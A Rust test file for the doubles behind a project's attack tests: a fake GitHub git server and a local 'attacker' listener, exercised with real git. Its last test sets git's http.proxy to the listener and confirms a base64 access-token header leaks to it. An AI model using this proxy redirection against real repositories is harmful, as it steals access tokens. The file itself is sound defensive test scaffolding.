//! The test doubles the attack tests stand on: the fake GitHub's git server (real `git
//! http-backend` behind it) and the attacker's listener. Real git talks to both.

use crate::support::attacker;
use crate::support::fake_github;
use crate::support::git_repo;

use std::path::Path;
use std::process::Output;

use attacker::Attacker;
use fake_github::{FakeGithub, base64_encode};
use git_repo::{Repos, git, git_cmd};

const REPO: &str = "octo/repo";
const TOKEN: &str = "ghs_gitServerTestToken0123456789";

fn served() -> (FakeGithub, Repos, String) {
    let gh = FakeGithub::start();
    gh.expect_token(TOKEN);
    let url = format!("{}/{REPO}", gh.server_url());
    let repos = Repos::served("main", REPO, |bare| {
        gh.seed_git_repo(REPO, bare);
        url.clone()
    });
    (gh, repos, url)
}

fn header(token: &str) -> String {
    format!("AUTHORIZATION: basic {}", base64_encode(format!("x-access-token:{token}").as_bytes()))
}

/// git in `dir` with the token's header for the fake (as our publish step passes it).
fn git_with(dir: &Path, server: &str, header: &str, args: &[&str]) -> Output {
    let key = format!("http.{server}/.extraheader");
    let mut cmd = git_cmd(dir, args);
    cmd.env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", key)
        .env("GIT_CONFIG_VALUE_0", header);
    cmd.output().expect("git runs")
}

fn commit_file(dir: &Path, name: &str, content: &[u8]) -> String {
    std::fs::write(dir.join(name), content).unwrap();
    git(dir, &["add", name]);
    git(dir, &["commit", "--quiet", "-m", name]);
    git(dir, &["rev-parse", "HEAD"])
}

#[test]
fn a_checkout_is_cloned_over_http_and_its_origin_is_the_server_url() {
    let (gh, repos, url) = served();
    assert_eq!(git(&repos.work, &["remote", "get-url", "origin"]), url);
    assert_eq!(git(&repos.work, &["rev-parse", "HEAD"]), repos.remote_sha("main").unwrap());
    let requests = gh.git_requests();
    assert!(!requests.is_empty() && requests.iter().all(|r| r.service == "git-upload-pack" && r.status == 200));
    assert!(requests.iter().all(|r| r.authorization.is_none()), "fetch is anonymous: {requests:?}");
    assert!(gh.requests().is_empty() && gh.violations().is_empty(), "git is not REST");
}

#[test]
fn a_push_needs_the_token_and_lands_in_the_bare_repository() {
    let (gh, repos, _) = served();
    let sha = commit_file(&repos.work, "new.txt", b"new\n");
    let server = gh.server_url();

    let anonymous = git_with(&repos.work, &server, "", &["push", "origin", "HEAD:refs/heads/anon"]);
    assert!(!anonymous.status.success());
    let wrong = git_with(&repos.work, &server, &header("ghs_wrong"), &["push", "origin", "HEAD:refs/heads/wrong"]);
    assert!(!wrong.status.success());
    let denied: Vec<_> = gh.git_requests().into_iter().filter(|r| r.is_push()).collect();
    assert!(denied.len() >= 2 && denied.iter().all(|r| r.status == 401 && !r.authorized), "{denied:?}");
    assert_eq!(repos.remote_sha("anon"), None);
    assert_eq!(repos.remote_sha("wrong"), None);

    // Through `…/owner/name.git` too, as the publish step's explicit URL may be spelled.
    let dot_git = format!("{server}/{REPO}.git");
    let out = git_with(&repos.work, &server, &header(TOKEN), &["push", &dot_git, "HEAD:refs/heads/work"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(repos.remote_sha("work").as_deref(), Some(sha.as_str()));
    let pushes: Vec<_> = gh.git_requests().into_iter().filter(|r| r.is_push() && r.authorized).collect();
    assert!(pushes.iter().any(|r| r.method == "POST" && r.status == 200), "{pushes:?}");
    assert!(gh.git_refs(REPO).contains(&format!("refs/heads/work {sha}")));
    assert!(String::from_utf8_lossy(&gh.git_all_objects(REPO)).contains("new.txt"));
}

#[test]
fn a_shallow_blobless_fetch_of_a_commit_works_and_a_big_push_goes_chunked() {
    let (gh, repos, _) = served();
    let server = gh.server_url();
    // Over http.postBuffer (1 MiB), so git sends the pack with chunked transfer encoding.
    let mut x = 0x2545_f491_4f6c_dd1d_u64;
    let big: Vec<u8> = (0..3_000_000)
        .map(|_| {
            // xorshift: incompressible, so the pack stays over the buffer.
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x.to_le_bytes()[3]
        })
        .collect();
    let sha = commit_file(&repos.work, "big.bin", &big);
    let out = git_with(&repos.work, &server, &header(TOKEN), &["push", "origin", "HEAD:refs/heads/big"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(repos.remote_sha("big").as_deref(), Some(sha.as_str()));
    assert!(gh.git_requests().iter().any(|r| r.is_push() && r.method == "POST" && r.chunked), "chunked push");

    let clean = repos.root.path().join("clean");
    git(repos.root.path(), &["init", "--quiet", clean.to_str().unwrap()]);
    git(&clean, &["remote", "add", "origin", &format!("{server}/{REPO}")]);
    let out = git_with(&clean, &server, &header(TOKEN), &["fetch", "--depth=1", "--filter=blob:none", "origin", &sha]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(git(&clean, &["rev-parse", "FETCH_HEAD"]), sha);
    // The blob was left out, and comes on demand through the same server.
    let missing = git(&clean, &["rev-list", "--objects", "--missing=print", &sha]);
    assert!(missing.lines().any(|l| l.starts_with('?')), "blob-less: {missing}");
    let out = git_with(&clean, &server, &header(TOKEN), &["cat-file", "-s", &format!("{sha}:big.bin")]);
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        big.len().to_string(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn a_gzip_request_body_is_inflated_for_the_backend() {
    let (gh, repos, url) = served();
    // Many local commits the server lacks: the negotiation's `have` lines make the upload-pack
    // request big enough for git to gzip it.
    for i in 0..400 {
        commit_file(&repos.work, "n.txt", format!("{i}\n").as_bytes());
    }
    let other = repos.push_branch("other", "main", &[("o.txt", "o\n")]);
    let out = git_with(&repos.work, &gh.server_url(), "", &["fetch", "--no-tags", &url, "refs/heads/other"]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(git(&repos.work, &["rev-parse", "FETCH_HEAD"]), other);
    let gzipped = gh.git_requests().into_iter().filter(|r| r.content_encoding.as_deref() == Some("gzip")).count();
    assert!(gzipped > 0, "{:?}", gh.git_requests());
}

#[test]
fn the_attackers_listener_records_a_proxied_request_with_its_header() {
    let attacker = Attacker::start();
    let (gh, repos, url) = served();
    let mut cmd = git_cmd(&repos.work, &["-c", &format!("http.proxy={}", attacker.url()), "fetch", &url]);
    cmd.env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_CONFIG_COUNT", "1")
        .env("GIT_CONFIG_KEY_0", format!("http.{}/.extraheader", gh.server_url()))
        .env("GIT_CONFIG_VALUE_0", header(TOKEN));
    let out = cmd.output().unwrap();
    assert!(!out.status.success(), "the listener answers 401");
    let hits = attacker.hits();
    assert!(!hits.is_empty());
    let seen = hits.iter().map(attacker::Hit::text).collect::<String>();
    assert!(seen.contains(&base64_encode(format!("x-access-token:{TOKEN}").as_bytes())), "{seen}");
    assert!(hits[0].request_line.starts_with("GET http://127.0.0.1:"), "{:?}", hits[0].request_line);
}
